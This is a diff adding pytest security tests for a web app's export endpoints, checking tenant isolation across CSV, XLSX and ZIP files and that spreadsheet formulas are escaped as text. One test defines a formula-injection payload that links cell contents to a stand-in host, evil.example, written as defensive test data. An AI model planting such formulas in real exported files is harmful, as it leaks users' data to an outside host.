@@ -2,15 +2,20 @@
 
 from __future__ import annotations
 
+import io
 import socket
 import statistics
 import time
+import zipfile
 from collections.abc import Iterator
 from contextlib import ExitStack, contextmanager
 
 import pytest
 import requests
+from openpyxl import load_workbook
 
+from core import exports
+from core.exports import all_stores
 from tests.attack.browsers import tab
 from tests.attack.raw_http import connected, status_of
 from tests.attack.target import Party, Target
@@ -85,3 +90,69 @@ def test_no_parameter_of_an_export_gives_5xx_or_resets_the_connection(target: Ta
 
     assert status in (200, 400, 404, 429)
     assert target.traces() == before, target.web.log_tail()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/"&A1,"Total")'
+FORMATS = ("csv", "xlsx", "zip")
+
+
+def sheets(target: Target, file_format: str, name: str, party: Party) -> tuple[int, bytes]:
+    """Request a file as `party` about its own store; return the status and the body."""
+    address = f"/exports/{name}.{file_format}?store={party.store_id}&range=30d"
+    answer = requests.get(target.installation.web_url + address, cookies={"xeno": party.session}, timeout=30)
+    return answer.status_code, answer.content
+
+
+def text_of(body: bytes) -> str:
+    """The body, or all that is packed in it, as text."""
+    if not body.startswith(b"PK"):
+        return body.decode("utf-8", "replace")
+    with zipfile.ZipFile(io.BytesIO(body)) as packed:
+        return "\n".join(packed.read(name).decode("utf-8", "replace") for name in packed.namelist())
+
+
+@pytest.mark.parametrize("file_format", FORMATS)
+def test_nobody_downloads_a_file_of_another_business_in_any_format(target: Target, file_format: str) -> None:
+    acme = target.acme
+    for name in exports.EXPORTS:
+        address = f"/exports/{name}.{file_format}?store={acme.store_id}"
+        answer = requests.get(
+            target.installation.web_url + address, cookies={"xeno": target.globex.session}, timeout=30
+        )
+        target.tally.note("files of another business", answer.status_code)
+        assert target.tally.crossed(acme.name in text_of(answer.content)) == 0, name
+        assert answer.status_code == 404, name
+
+
+@pytest.mark.parametrize("file_format", FORMATS)
+@pytest.mark.parametrize("name", all_stores.EXPORTS)
+def test_a_file_about_all_stores_has_none_of_another_business(target: Target, name: str, file_format: str) -> None:
+    acme, globex = target.acme, target.globex
+    days = f"{acme.store_id}_2020-01-01_2030-01-01"
+    address = f"/exports/{name}.{file_format}?store={globex.store_id}&days={days}"
+    answer = requests.get(target.installation.web_url + address, cookies={"xeno": globex.session}, timeout=30)
+    target.tally.note("files of another business", answer.status_code)
+    assert answer.status_code == 200
+    assert target.tally.crossed(acme.name in text_of(answer.content) or acme.shop in text_of(answer.content)) == 0
+
+
+@pytest.mark.parametrize("file_format", FORMATS)
+def test_a_formula_in_a_cell_is_text_in_every_format(target: Target, file_format: str) -> None:
+    party = target.globex
+    target.rows(
+        """INSERT INTO deliveries (tenant_id, store_id, webhook_id, topic, body, state, reason, received_at)
+           VALUES (%s, %s, 'formula-' || %s, 'carts/update', '', 'ignored', %s, now()) RETURNING 1""",
+        *(party.tenant_id, party.store_id, file_format, FORMULA),
+    )
+    status, body = sheets(target, file_format, "deliveries", party)
+    target.tally.note("formulas in cells", status)
+    assert status == 200
+    if file_format == "xlsx":
+        book = load_workbook(io.BytesIO(body))
+        cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value == FORMULA]
+        assert cells
+        assert all(cell.data_type == "s" and cell.hyperlink is None for cell in cells)
+        return
+    text = text_of(body).replace('""', '"')
+    assert f"'{FORMULA}" in text
+    assert text.count(FORMULA) == text.count(f"'{FORMULA}")
